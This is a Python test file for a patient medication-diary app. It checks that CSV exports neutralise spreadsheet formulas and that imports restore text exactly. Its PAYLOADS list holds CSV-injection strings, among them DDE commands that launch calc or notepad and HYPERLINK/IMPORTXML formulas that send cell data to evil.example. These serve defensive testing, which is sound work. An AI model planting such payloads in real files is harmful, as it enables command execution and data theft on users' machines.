"""Issue 15: the CSV exports are safe to open in a spreadsheet (no text cell starts like a
formula), numbers stay numbers, and an import gives back every text exactly as typed.
Runs on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import insert, select

from dosewise.services import patients, storage, triage
from dosewise.store.csv_cells import FORMULA_STARTS, read_text_cell, write_cell
from dosewise.store.database import build_engine, upgrade_database
from dosewise.store.models import MedicineRow, NoteRow, ProductRow, StockEventRow, SymptomEntryRow

NOW = datetime(2026, 12, 2, 12, 0, tzinfo=UTC)
STORED = datetime(2026, 12, 2, 12, 0)  # naive UTC, as the store keeps it

# The classic payloads (OWASP "CSV Injection" and the attack run of issue 15)
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
]
# Text that must come back exactly: a real leading quote, quotes and formula starts together
ROUND_TRIP = [*PAYLOADS, "'quoted", "''", "'=1+1", "-5", "plain text", "a = b", "'"]
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture
def noted(engine):
    """A patient whose notes, medicine names, symptom notes and a supply note hold every
    payload (written straight to the tables: whatever is stored must export safely)."""
    patient = patients.create_patient(engine, name="=Zoë+1", time_zone="UTC", now=NOW, actor="test")
    with engine.begin() as connection:
        connection.execute(
            insert(NoteRow),
            [{"patient_id": patient, "recorded_at": STORED, "author": "@me", "text": t} for t in ROUND_TRIP],
        )
        connection.execute(
            insert(MedicineRow), [{"patient_id": patient, "name": t, "added_at": STORED} for t in PAYLOADS]
        )
        connection.execute(
            insert(SymptomEntryRow),
            [
                {
                    "patient_id": patient,
                    "recorded_at": STORED,
                    "penn_frequency": 0,
                    "penn_severity": None,
                    "spasticity_nrs": 3,
                    "side_effects": "[]",
                    "note": t,
                }
                for t in PAYLOADS
            ],
        )
        product = connection.execute(
            insert(ProductRow).returning(ProductRow.id),
            {"patient_id": patient, "spec": "tablet:10mg:halves", "description": "10 mg", "added_at": STORED},
        ).scalar_one()
        connection.execute(
            insert(StockEventRow),
            {
                "patient_id": patient,
                "product_id": product,
                "kind": "adjusted",
                "quantity_milli": -500,
                "recorded_at": STORED,
                "recorded_by": "cli",
                "note": "-1 dropped",
            },
        )
    triage.triage_patient(engine, patient_id=patient, symptoms=["=1+1 feel odd"], now=NOW, actor="cli",
                          amount="@SUM(A1)")  # fmt: skip
    return patient


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _unsafe(files: dict[str, str]) -> list[tuple[str, str]]:
    """Every cell of every file that a spreadsheet could run (plain numbers are numbers)."""
    return [
        (name, cell)
        for name, text in files.items()
        for row in _cells(text)
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]


def _read_folder(folder: Path) -> dict[str, str]:
    files = {}
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:  # a CR in a cell stays a CR
            files[path.name] = file.read()
    return files


def test_no_exported_cell_starts_like_a_formula(engine, noted, tmp_path):
    folder = tmp_path / "export"
    storage.export_tables(engine, str(folder), patient_id=noted, now=NOW)  # the CLI's and the web's
    files = _read_folder(folder)
    assert _unsafe(files) == []
    notes = [row[4] for row in _cells(files["notes.csv"])[1:]]
    assert notes[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]  # 13 of 13 neutralized
    assert notes[len(PAYLOADS) :] == ["''quoted", "'''", "''=1+1", "'-5", "plain text", "a = b", "''"]
    stock = _cells(files["stock_events.csv"])
    assert stock[1][stock[0].index("quantity_milli")] == "-500"  # a number stays a number
    assert stock[1][stock[0].index("note")] == "'-1 dropped"
    checks = _cells(files["safety_checks.csv"])  # the file for people is safe too
    assert checks[1][checks[0].index("amount")] == "'@SUM(A1)"
    assert checks[1][checks[0].index("typed")] == "'=1+1 feel odd"
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["text_cells"] == "leading-quote"


def test_an_import_gives_back_every_text_as_typed(engine, noted, tmp_path):
    folder = tmp_path / "export"
    storage.export_tables(engine, str(folder), patient_id=noted, now=NOW)
    target = build_engine(f"sqlite:///{tmp_path / 'target.sqlite3'}")
    try:
        upgrade_database(target)
        storage.import_tables(target, str(folder))

        def texts(database):
            with database.connect() as connection:
                return (
                    connection.scalars(select(NoteRow.text).order_by(NoteRow.id)).all(),
                    connection.scalars(select(MedicineRow.name).order_by(MedicineRow.id)).all(),
                    connection.scalars(select(SymptomEntryRow.note).order_by(SymptomEntryRow.id)).all(),
                    connection.scalars(select(StockEventRow.quantity_milli)).all(),
                )

        assert texts(target) == texts(engine)
        assert texts(target)[0] == ROUND_TRIP
        again = tmp_path / "again"
        storage.export_tables(target, str(again), patient_id=noted, now=NOW)
        assert _read_folder(again) == _read_folder(folder)  # byte for byte
    finally:
        target.dispose()


def test_an_export_from_before_the_quoting_is_read_as_it_was_written(engine, noted, tmp_path):
    """A folder whose manifest does not say ``text_cells`` was written before issue 15: its
    text is taken as it stands (a note that really started with a quote keeps it)."""
    folder = tmp_path / "export"
    storage.export_tables(engine, str(folder), patient_id=noted, now=NOW)
    manifest = json.loads((folder / "manifest.json").read_text())
    del manifest["text_cells"]
    (folder / "manifest.json").write_text(json.dumps(manifest))
    target = build_engine(f"sqlite:///{tmp_path / 'target.sqlite3'}")
    try:
        upgrade_database(target)
        storage.import_tables(target, str(folder))
        with target.connect() as connection:
            first = connection.scalar(select(NoteRow.text).order_by(NoteRow.id))
        assert first == "'=1+1"
    finally:
        target.dispose()


@pytest.mark.parametrize("text", ROUND_TRIP)
def test_one_cell_round_trips(text):
    cell = write_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert read_text_cell(cell) == text


def test_numbers_times_and_flags_are_written_as_they_are():
    assert [write_cell(v) for v in (-500, 2.5, True, None, STORED)] == [
        "-500", "2.5", "1", "", "2026-12-02T12:00:00",
    ]  # fmt: skip


def test_the_web_downloads_are_safe(web_app):
    """The zip of the report page and the account's "download everything" carry the same files."""
    from fastapi.testclient import TestClient

    from conftest import page_token, sign_up

    engine = web_app.state.context.engine
    with TestClient(web_app, follow_redirects=False) as client:
        sign_up(client, "zip@example.org")
        patient = client.get("/").headers["location"].split("/")[2]
        saved = client.post(
            f"/patients/{patient}/diary/notes",
            data={"csrf_token": page_token(client), "text": PAYLOADS[8]},
        )
        assert saved.status_code in (200, 303), saved.text[:300]
        with engine.connect() as connection:
            assert connection.scalar(select(NoteRow.text)) == PAYLOADS[8]
        for path in (f"/patients/{patient}/export/csv.zip", "/account/export.zip"):
            response = client.get(path)
            assert response.status_code == 200, path
            with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
                files = {
                    name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".csv")
                }
            assert _unsafe(files) == [], path
            assert _cells(files["csv/notes.csv"])[1][4] == "'" + PAYLOADS[8]
